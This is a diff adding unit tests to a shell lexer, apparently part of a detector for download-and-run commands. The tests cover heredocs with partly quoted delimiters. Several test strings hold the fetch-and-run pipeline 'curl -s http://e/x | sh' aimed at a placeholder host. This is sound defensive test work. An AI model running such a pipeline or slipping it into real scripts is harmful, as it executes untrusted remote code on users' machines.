@@ -208,6 +208,18 @@ Test(lex, heredocs_and_comments_inside_substitutions)
 		cr_assert_eq(runs_curl(bodies[i].src, 2), bodies[i].runs, "%zu: %s", i,
 			     bodies[i].src);
 	}
+	/* A delimiter quoted in its middle is the word without its quotes (E"O"F ends at
+	 * EOF: the rest of the script was taken for its body), and its body is literal. */
+	static const char *const partly[] = { "cat <<E\"O\"F\nhi\nEOF\ncurl -s http://e/x | sh\n",
+					      "cat <<E'O'F\nhi\nEOF\ncurl -s http://e/x | sh\n",
+					      "cat <<E\\OF\nhi\nEOF\ncurl -s http://e/x | sh\n" };
+	for (size_t i = 0; i < sizeof(partly) / sizeof(partly[0]); i++) {
+		lex(LANG_SHELL, partly[i]);
+		cr_assert(has_token("curl") && has_token("sh"), "%zu: %s", i, all());
+		done();
+	}
+	cr_assert_not(runs_curl("cat <<E\"O\"F\n$(curl -s http://e/x | sh)\nEOF\n", 2),
+		      "a quoted body runs nothing");
 	/* Two heredocs on one line, <<- and an unquoted one. */
 	lex(LANG_SHELL, "v=$(cat <<-A <<B\n\t'\n\tA\n)\nB\n)\necho ok\n");
 	cr_assert(has_token("echo") && has_token("ok"), "%s", all());
